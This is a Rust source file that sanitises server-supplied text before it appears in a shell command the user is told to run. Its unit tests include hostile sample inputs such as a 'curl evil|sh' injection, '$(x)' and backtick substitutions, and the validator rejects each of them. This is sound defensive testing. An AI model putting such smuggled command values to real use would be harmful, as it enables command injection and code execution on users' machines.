//! Text from a server in a command that the user is told to run: it is shown only if a shell reads it as one plain word.

use crate::settings::login::{DEFAULT_CLIENT_ID, LoginSettings};

/// The text as a word of a command, or the placeholder.
#[must_use]
pub fn word<'t>(text: &'t str, placeholder: &'t str) -> &'t str {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-._~:/%[]@+".contains(c);
    if !text.is_empty() && !text.starts_with('-') && text.chars().all(plain) { text } else { placeholder }
}

/// The flags that lead another command to the same Backstage, as the same client and with the same certificates.
#[must_use]
pub fn same_backend(address: &str, settings: &LoginSettings) -> String {
    let mut flags = format!("--backend {}", word(address, "URL"));
    if settings.backstage_client_id != DEFAULT_CLIENT_ID {
        flags.push_str(" --client-id ");
        flags.push_str(word(&settings.backstage_client_id, "ID"));
    }
    if let Some(file) = &settings.ca_file {
        flags.push_str(" --ca-file ");
        flags.push_str(word(file.to_str().unwrap_or_default(), "FILE"));
    }
    flags
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::settings::Source;

    #[test]
    fn another_command_gets_the_flags_that_are_not_the_default() {
        let flags = |pairs: &[(&str, &str)]| {
            let source = Source::new(pairs.iter().map(|(n, v)| ((*n).to_owned(), (*v).to_owned())));
            same_backend("https://b.example", &LoginSettings::read(&source).unwrap())
        };
        assert_eq!(flags(&[]), "--backend https://b.example");
        assert_eq!(
            flags(&[("BACKSTAGE_CLIENT_ID", "team-helper"), ("CA_FILE", "/etc/corp.pem")]),
            "--backend https://b.example --client-id team-helper --ca-file /etc/corp.pem"
        );
        assert_eq!(
            flags(&[("BACKSTAGE_CLIENT_ID", "a;b"), ("CA_FILE", "/etc/a ca.pem")]),
            "--backend https://b.example --client-id ID --ca-file FILE"
        );
    }

    #[test]
    fn a_word_is_shown_when_it_is_one() {
        for text in
            ["prod", "https://backstage.example.com:8443/portal", "http://[::1]:7007", "xn--e1a.example"]
        {
            assert_eq!(word(text, "NAME"), text);
        }
        for text in ["dev;curl evil|sh", "$(x)", "a b", "`x`", "--yes", "", "a&b", "it's", "a\\nb", "dév"] {
            assert_eq!(word(text, "NAME"), "NAME");
        }
    }
}
